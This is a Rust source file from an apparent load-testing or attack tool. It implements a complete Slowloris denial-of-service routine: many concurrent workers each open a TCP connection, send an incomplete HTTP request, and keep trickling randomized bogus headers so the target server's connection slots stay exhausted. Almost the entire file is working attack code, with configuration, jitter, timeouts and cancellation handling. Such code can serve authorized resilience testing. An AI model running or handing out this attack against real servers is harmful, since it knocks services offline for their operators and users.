//! Slowloris: hold connections open by never finishing the request headers.
//!
//! ## Attack Vector
//! Each worker dials the target, sends a request line and a couple of real
//! headers, then keeps trickling one bogus header at a jittered interval. A
//! server without a header read timeout keeps the connection, and one of its
//! limited connection slots, busy for as long as the attack runs.
//!
//! ## Attempt Lifecycle
//! 1. Dial. A failed dial is reported and ends the attempt.
//! 2. `tcp/dial`, then disable linger so closing the socket is an abort.
//! 3. Start line, `Host` and `User-Agent`, each write under the write timeout.
//! 4. Gibberish loop until cancelled, a write fails, or the server hangs up.
//! 5. Close the socket and emit `tcp/closed`.

use super::http::{
    gibberish_value, start_line, write_http_header, write_http_line, DEFAULT_USER_AGENTS,
    GIBBERISH_SIZE,
};
use super::pacing::WriteTimeout;
use super::pool::run_with_workers;
use super::random::{rand_index, Randn};
use super::{deadline_token, worker_events, Target, WorkerEvents};
use crate::error::{AttackError, Result};
use crate::telemetry::{capture_panic, EventName};
use hyper::Method;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncReadExt;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::net::TcpStream;
use tokio::time::{sleep, Instant};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};
use turtle_common::SlowlorisConfig;

pub const DEFAULT_GIBBERISH_INTERVAL: Duration = Duration::from_secs(3);
pub const DEFAULT_WRITE_TIMEOUT: Duration = Duration::from_secs(10);

#[derive(Debug, Clone)]
pub struct Slowloris {
    pub target: Target,
    /// Method of the request line. Defaults to GET.
    pub method: Option<Method>,
    /// One is picked at random per connection. Defaults to a built-in list.
    pub user_agents: Vec<String>,
    /// Send a random header every jittered `gibberish_interval`.
    pub send_gibberish: bool,
    /// Upper bound of the delay between gibberish headers. Defaults to 3s.
    pub gibberish_interval: Duration,
    /// Deadline for each header write. Defaults to 10s.
    pub write_timeout: Duration,
    randn: Randn,
}

impl Slowloris {
    pub fn new(target: Target) -> Self {
        Self {
            target,
            method: None,
            user_agents: Vec::new(),
            send_gibberish: false,
            gibberish_interval: Duration::ZERO,
            write_timeout: Duration::ZERO,
            randn: rand_index,
        }
    }

    pub fn from_config(target: Target, config: &SlowlorisConfig) -> Result<Self> {
        let method = config.method.as_deref().map(parse_method).transpose()?;
        Ok(Self {
            method,
            user_agents: config.user_agents.clone(),
            send_gibberish: config.send_gibberish,
            gibberish_interval: Duration::from_millis(config.gibberish_interval_ms),
            write_timeout: Duration::from_millis(config.write_timeout_ms),
            ..Self::new(target)
        })
    }

    pub fn with_gibberish(mut self, interval: Duration) -> Self {
        self.send_gibberish = true;
        self.gibberish_interval = interval;
        self
    }

    pub fn with_user_agents(mut self, user_agents: Vec<String>) -> Self {
        self.user_agents = user_agents;
        self
    }

    /// Replaces the random source used for jitter, user agent and gibberish.
    pub fn with_randn(mut self, randn: Randn) -> Self {
        self.randn = randn;
        self
    }

    /// Fills every unset field with its default. Idempotent.
    pub fn resolve_defaults(&mut self) {
        self.target.resolve_defaults();
        if self.method.is_none() {
            self.method = Some(Method::GET);
        }
        if self.user_agents.is_empty() {
            self.user_agents = DEFAULT_USER_AGENTS.iter().map(|s| s.to_string()).collect();
        }
        if self.gibberish_interval.is_zero() {
            self.gibberish_interval = DEFAULT_GIBBERISH_INTERVAL;
        }
        if self.write_timeout.is_zero() {
            self.write_timeout = DEFAULT_WRITE_TIMEOUT;
        }
    }

    /// Runs the attack until `cancel` fires or the target duration elapses,
    /// then waits for every worker to wind down.
    pub async fn run(&mut self, cancel: CancellationToken) -> Result<()> {
        self.resolve_defaults();
        let addr = self.target.dial_addr()?;

        info!(
            url = %self.target.url,
            connections = self.target.connections,
            duration = ?self.target.duration,
            gibberish = self.send_gibberish,
            "Starting slowloris attack"
        );

        let attack = Arc::new(SlowlorisWorker {
            addr,
            host: self.target.host_header().to_string(),
            start_line: start_line(
                self.method.as_ref().map(Method::as_str).unwrap_or("GET"),
                self.target.request_path(),
            ),
            settings: self.clone(),
        });

        let (deadline, _guard) = deadline_token(&cancel, self.target.duration);
        run_with_workers(deadline, self.target.connections, move |cancel, worker_id| {
            let attack = Arc::clone(&attack);
            async move {
                let events = worker_events(&attack.settings.target.events, worker_id);
                let attempt = Arc::clone(&attack).attempt(cancel, worker_id, events.clone());
                capture_panic(&events, attempt).await;
            }
        })
        .await;

        info!(url = %self.target.url, "Slowloris attack finished");
        Ok(())
    }
}

/// Resolved, immutable view of a `Slowloris` shared by the workers.
struct SlowlorisWorker {
    addr: String,
    host: String,
    start_line: String,
    settings: Slowloris,
}

impl SlowlorisWorker {
    async fn attempt(
        self: Arc<Self>,
        cancel: CancellationToken,
        worker_id: usize,
        events: WorkerEvents,
    ) {
        let stream = tokio::select! {
            biased;
            _ = cancel.cancelled() => return,
            res = TcpStream::connect(&self.addr) => match res {
                Ok(stream) => stream,
                Err(source) => {
                    let err = AttackError::Dial { addr: self.addr.clone(), source };
                    debug!(worker_id, error = %err, "Dial failed");
                    events.emit_error(EventName::WorkerError, &err);
                    return;
                }
            }
        };

        events.emit(EventName::TcpDial);
        debug!(worker_id, addr = %self.addr, "Connection established");

        if let Err(err) = self.hold(stream, &cancel).await {
            debug!(worker_id, error = %err, "Connection attempt ended");
            events.emit_error(EventName::WorkerError, &err);
        }

        events.emit(EventName::TcpClosed);
    }

    /// Drives one connection until cancellation or failure. The socket is
    /// closed when this returns.
    async fn hold(&self, stream: TcpStream, cancel: &CancellationToken) -> Result<()> {
        // Abort on close instead of lingering in FIN_WAIT on our side.
        #[allow(deprecated)]
        stream
            .set_linger(Some(Duration::ZERO))
            .map_err(AttackError::Setup)?;

        let (mut reader, writer) = stream.into_split();
        let mut conn = WriteTimeout::new(writer, self.settings.write_timeout);

        tokio::select! {
            biased;
            _ = cancel.cancelled() => return Ok(()),
            res = self.send_preamble(&mut conn) => res?,
        }

        let gibberish = sleep(self.next_gibberish_delay());
        tokio::pin!(gibberish);
        let mut scratch = [0u8; 512];

        loop {
            tokio::select! {
                biased;
                _ = cancel.cancelled() => return Ok(()),
                read = reader.read(&mut scratch) => match read {
                    Ok(0) => return Err(AttackError::PeerClosed),
                    Ok(n) => debug!(bytes = n, "Discarding bytes sent by server"),
                    Err(e) => return Err(AttackError::Read(e)),
                },
                _ = &mut gibberish, if self.settings.send_gibberish => {
                    let randn = self.settings.randn;
                    let key = gibberish_value(randn, GIBBERISH_SIZE);
                    let value = gibberish_value(randn, GIBBERISH_SIZE);
                    tokio::select! {
                        biased;
                        _ = cancel.cancelled() => return Ok(()),
                        res = write_http_header(&mut conn, &key, &value) => {
                            res.map_err(|e| AttackError::write("write gibberish HTTP header", e))?;
                        }
                    }
                    gibberish.as_mut().reset(Instant::now() + self.next_gibberish_delay());
                }
            }
        }
    }

    async fn send_preamble(&self, conn: &mut WriteTimeout<OwnedWriteHalf>) -> Result<()> {
        write_http_line(conn, &self.start_line)
            .await
            .map_err(|e| AttackError::write("write HTTP start line", e))?;

        write_http_header(conn, "Host", &self.host)
            .await
            .map_err(|e| AttackError::write("write HTTP header", e))?;

        let agents = &self.settings.user_agents;
        let user_agent = &agents[(self.settings.randn)(agents.len())];
        write_http_header(conn, "User-Agent", user_agent)
            .await
            .map_err(|e| AttackError::write("write HTTP header", e))?;

        Ok(())
    }

    /// Uniform in `[0, gibberish_interval)` at millisecond resolution.
    fn next_gibberish_delay(&self) -> Duration {
        if !self.settings.send_gibberish {
            return Duration::ZERO;
        }
        let interval_ms = self.settings.gibberish_interval.as_millis().max(1) as usize;
        Duration::from_millis((self.settings.randn)(interval_ms) as u64)
    }
}

pub(crate) fn parse_method(method: &str) -> Result<Method> {
    Method::from_bytes(method.to_ascii_uppercase().as_bytes())
        .map_err(|_| AttackError::InvalidMethod(method.to_string()))
}
